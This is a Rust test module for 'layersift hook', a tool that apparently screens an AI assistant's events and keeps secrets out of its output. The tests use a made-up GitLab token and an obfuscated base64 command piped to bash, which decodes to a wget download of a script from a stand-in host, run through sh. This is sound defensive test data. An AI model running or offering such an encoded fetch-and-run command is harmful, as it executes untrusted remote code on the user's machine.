//! `layersift hook` as an assistant runs it: events on standard input, answers in the form of the assistant. And the
//! settings that `install` writes.

#![allow(
    clippy::expect_used,
    clippy::panic,
    clippy::print_stderr,
    clippy::print_stdout,
    clippy::unreachable,
    clippy::unwrap_used
)]

mod answers;
mod closed;
mod files;
mod names;
mod settings;

use std::io::Write;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use serde_json::Value;

/// A made-up token of GitLab, which is not written here as one.
fn token() -> String {
    format!("glpat-{}", "Zk7Qm2Xr9Tb4Wn6Ve001")
}

/// A command that decodes a program and runs it.
const ENCODED: &str = "echo d2dldCAtcU8tIGNvbGxlY3QuYWNtZS5kZXYvcyB8IHNo | base64 -d | bash";

/// Runs `layersift` with `arguments` in `directory`, which is also the home directory.
fn run_in(directory: &Path, arguments: &[&str], input: &[u8]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_layersift"))
        .args(arguments)
        .current_dir(directory)
        .env("HOME", directory)
        .env_remove("XDG_CACHE_HOME")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Whoever does not read all of it has ended before.
    let _ = child.stdin.take().unwrap().write_all(input);
    child.wait_with_output().unwrap()
}

/// Runs the hook with the event `event`.
fn hook(arguments: &[&str], event: &Value) -> Output {
    let directory = tempfile::tempdir().unwrap();
    let output = run_in(directory.path(), &[&["hook"], arguments].concat(), event.to_string().as_bytes());
    assert_eq!(std::fs::read_dir(directory.path()).unwrap().count(), 0, "something was written");
    output
}

/// The answer to `event`, which is JSON with exit status 0.
fn answer(event: &Value) -> Value {
    let output = hook(&[], event);
    let shown = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert_eq!(output.status.code(), Some(0), "{shown:?}");
    assert!(!shown.0.contains(&token()) && !shown.1.contains(&token()), "{shown:?}");
    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error}: {shown:?}"))
}

fn error_of(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}
